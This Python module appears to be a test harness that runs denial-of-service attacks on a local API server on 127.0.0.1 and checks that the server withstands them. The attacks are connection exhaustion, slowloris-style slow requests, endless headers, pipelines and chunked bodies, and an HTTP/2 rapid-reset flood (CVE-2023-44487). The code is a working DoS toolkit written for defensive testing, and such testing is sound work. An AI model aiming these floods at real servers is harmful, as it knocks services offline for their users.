"""What a hostile client does to the server's port, spoken by hand. Each attack says what came of it."""

from __future__ import annotations

import asyncio
import contextlib
import json
import resource
import ssl
import time
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import httpx

MAPS = "/api/v1/namespaces/default/configmaps"
ACCEPTED_BYTES_MAX = 24 * 2**20  # of what has no end, with the buffers of the kernels on both sides
LOST = (OSError, asyncio.IncompleteReadError, TimeoutError)
Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]


class Attacker:
    """Opens connections and drops them all at the end. `token` is the administrator's: some attacks need rights.

    Without `ca` the server speaks no TLS. `writes` is the method and path of requests with a body, `reads` a path that
    everybody may read, and bodies of `body_bytes` are no larger than is accepted.
    """

    def __init__(
        self,
        port: int,
        ca: Path | None,
        token: str,
        span_s: float,
        count: int,
        writes: tuple[str, str] = ("POST", MAPS),
        reads: str = "/version",
        body_bytes: int = 3_000_000,
    ) -> None:
        self.port, self.ca, self.token = port, ca, token
        self.span_s, self.count = span_s, count
        self.writes, self.reads, self.body_bytes = writes, reads, body_bytes
        self._open: list[Connection] = []

    async def connect(self, tls: bool = True, protocol: str = "http/1.1") -> Connection:
        context = None
        if tls and self.ca is not None:
            context = ssl.create_default_context(cafile=str(self.ca))
            context.set_alpn_protocols([protocol])
        found = await asyncio.open_connection("127.0.0.1", self.port, ssl=context)
        self._open.append(found)
        return found

    async def connected(self, count: int, tls: bool = True) -> list[Connection]:
        """So many connections, a few at a time."""
        allow_files(count)
        found: list[Connection] = []
        while len(found) < count:
            found += await asyncio.gather(*(self.connect(tls) for _ in range(min(20, count - len(found)))))
        return found

    def head(self, method: str, path: str, *lines: str) -> bytes:
        text = "".join(f"{line}\r\n" for line in lines)
        return f"{method} {path} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {self.token}\r\n{text}\r\n".encode()

    def drop(self) -> None:
        for _, writer in self._open:
            writer.transport.abort()


def allow_files(count: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < count + 256:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(count + 256, hard), hard))


Attack = Callable[[Attacker], Awaitable[str]]


async def flood(writer: asyncio.StreamWriter, data: bytes, until: float) -> tuple[int, str]:
    """Send the same again and again without reading; (bytes sent, how it ended)."""
    sent = 0
    try:
        while time.monotonic() < until:
            writer.write(data)
            sent += len(data)
            await asyncio.wait_for(writer.drain(), max(until - time.monotonic(), 0.1))
        return sent, "at it still"
    except TimeoutError:
        return sent, "held up"
    except OSError:
        return sent, "cut off"


async def floods(attacker: Attacker, first: bytes, again: bytes) -> str:
    """On ten connections at once, new ones for those that are cut off."""
    until, ended = time.monotonic() + attacker.span_s, []

    async def one_after_another() -> None:
        while time.monotonic() < until:
            _, writer = await attacker.connect()
            writer.write(first)
            ended.append(await flood(writer, again, until))

    await asyncio.gather(*(one_after_another() for _ in range(10)))
    most = max(sent for sent, _ in ended)
    assert most < ACCEPTED_BYTES_MAX, most
    total, kinds = sum(sent for sent, _ in ended), " or ".join(sorted({kind for _, kind in ended}))
    return f"{total / 2**20:.1f} MiB on {len(ended)} connections, {most / 2**20:.1f} on one; {kinds}"


async def idle(attacker: Attacker) -> str:
    opened = await attacker.connected(attacker.count)
    await asyncio.sleep(attacker.span_s)
    return f"{len(opened)} connections"


async def silent_before_tls(attacker: Attacker) -> str:
    opened = await attacker.connected(attacker.count // 4, tls=False)
    await asyncio.sleep(attacker.span_s)
    return f"{len(opened)} connections"


async def slow_heads(attacker: Attacker) -> str:
    opened = await attacker.connected(attacker.count // 10)
    until = time.monotonic() + attacker.span_s
    for _, writer in opened:
        writer.write(f"GET {attacker.reads} HTTP/1.1\r\n".encode())
    while time.monotonic() < until:
        for _, writer in opened:
            writer.write(b"x: y\r\n")
        await asyncio.sleep(0.1)
    return f"{len(opened)} connections"


async def slow_bodies(attacker: Attacker) -> str:
    opened = await attacker.connected(attacker.count // 10)
    until = time.monotonic() + attacker.span_s
    for _, writer in opened:
        writer.write(attacker.head(*attacker.writes, "content-length: 1000000"))
    while time.monotonic() < until:
        for _, writer in opened:
            writer.write(b"{")
        await asyncio.sleep(0.1)
    return f"{len(opened)} connections"


async def endless_url(attacker: Attacker) -> str:
    return await floods(attacker, b"GET /", b"a" * 16_384)


async def endless_head(attacker: Attacker) -> str:
    return await floods(attacker, b"GET / HTTP/1.1\r\n", b"x: " + b"y" * 8000 + b"\r\n")


async def endless_pipeline(attacker: Attacker) -> str:
    return await floods(attacker, b"", f"GET {attacker.reads} HTTP/1.1\r\nhost: x\r\n\r\n".encode() * 500)


async def endless_pipeline_of_large_answers(attacker: Attacker) -> str:
    return await floods(attacker, b"", attacker.head("GET", "/openapi/v2") * 100)


async def endless_body(attacker: Attacker) -> str:
    head = attacker.head(*attacker.writes, "transfer-encoding: chunked", "content-type: application/json")
    return await floods(attacker, head, b"4000\r\n" + b"x" * 0x4000 + b"\r\n")


async def resets_in_mid_body(attacker: Attacker) -> str:
    until, count = time.monotonic() + attacker.span_s, 0
    head = attacker.head(*attacker.writes, "content-type: application/json", "content-length: 2000000")
    while time.monotonic() < until:
        for _, writer in await attacker.connected(10):
            writer.write(head + b"x" * 1_000_000)
            with contextlib.suppress(*LOST):
                await asyncio.wait_for(writer.drain(), 1)
            writer.transport.abort()
            count += 1
    return f"{count} times"


async def bodies_of_strangers(attacker: Attacker) -> str:
    """Nobody may keep what one sends who may not write, wherever it is sent."""
    opened = await attacker.connected(100)
    for number, (_, writer) in enumerate(opened):
        method, path = attacker.writes if number % 2 else ("POST", attacker.reads)
        head = f"{method} {path} HTTP/1.1\r\nhost: x\r\ncontent-length: {attacker.body_bytes}\r\n\r\n"
        writer.write(head.encode() + b"x" * (attacker.body_bytes - 1000))
    await asyncio.sleep(attacker.span_s)
    return f"{len(opened)} of {attacker.body_bytes / 1e6:g} MB"


async def unread_watches(attacker: Attacker) -> str:
    """Fifty watchers who do not read while 18 MB change; kept for each they would be 900 MB."""
    for _, writer in await attacker.connected(50):
        writer.write(attacker.head("GET", f"{MAPS}?watch=true"))
    assert attacker.ca is not None
    headers, trust = {"authorization": f"Bearer {attacker.token}"}, ssl.create_default_context(cafile=str(attacker.ca))
    base = f"https://127.0.0.1:{attacker.port}"
    async with httpx.AsyncClient(base_url=base, verify=trust, headers=headers, timeout=30) as client:
        for number in range(60):
            body: dict[str, Any] = {"metadata": {"name": "large"}, "data": {"k": f"{number:02}" * 150_000}}
            reported = await client.put(f"{MAPS}/large", json=body)
            if reported.status_code == 404:
                reported = await client.post(MAPS, json=body)
            assert reported.status_code in (200, 201), reported.text
    return "50 watchers of 60 changes of 300 kB"


# ---- HTTP/2, in frames (RFC 9113)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS = 0x0, 0x1, 0x3, 0x4
END_STREAM_AND_HEADERS = 0x5
CANCEL = (8).to_bytes(4, "big")


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def request_frame(stream: int, path: str, **headers: str) -> bytes:
    """A GET whose head is HPACK literals that no table keeps (RFC 7541): only method and scheme are indexed."""
    block = b"\x82\x87"
    for name, value in {":path": path, ":authority": "x", **headers}.items():
        assert max(len(name), len(value)) < 127
        block += b"\x00" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()
    return frame(HEADERS, END_STREAM_AND_HEADERS, stream, block)


async def rapid_resets(attacker: Attacker) -> str:
    """Requests on HTTP/2 that are taken back at once (CVE-2023-44487)."""
    until, sent, ended = time.monotonic() + attacker.span_s, 0, 0
    while time.monotonic() < until:
        _, writer = await attacker.connect(protocol="h2")
        writer.write(PREFACE + frame(SETTINGS, 0, 0))
        streams = iter(range(1, 2**31, 2))
        try:
            while time.monotonic() < until:
                both = (request_frame(one, "/version") + frame(RST_STREAM, 0, one, CANCEL) for one in streams)
                writer.write(b"".join(next(both) for _ in range(200)))
                sent += 200
                await asyncio.wait_for(writer.drain(), 1)
        except LOST:
            ended += 1
    assert ended, "the server lets it go on for ever"
    return f"{sent} requests, {ended} connections ended by the server"


ATTACKS: dict[str, Attack] = {
    one.__name__: one
    for one in (
        idle, silent_before_tls, slow_heads, slow_bodies, endless_url, endless_head, endless_pipeline,
        endless_pipeline_of_large_answers, endless_body, resets_in_mid_body, bodies_of_strangers, unread_watches,
        rapid_resets,
    )
}  # fmt: skip


ON_ANY_SERVER = (
    "idle", "slow_heads", "slow_bodies", "endless_url", "endless_head", "endless_pipeline", "endless_body",
    "resets_in_mid_body", "bodies_of_strangers",
)  # fmt: skip
"""The attacks that need neither TLS nor the Kubernetes API."""


def token_of(kubeconfig: Path) -> str:
    return str(json.loads(kubeconfig.read_text())["users"][0]["user"]["token"])
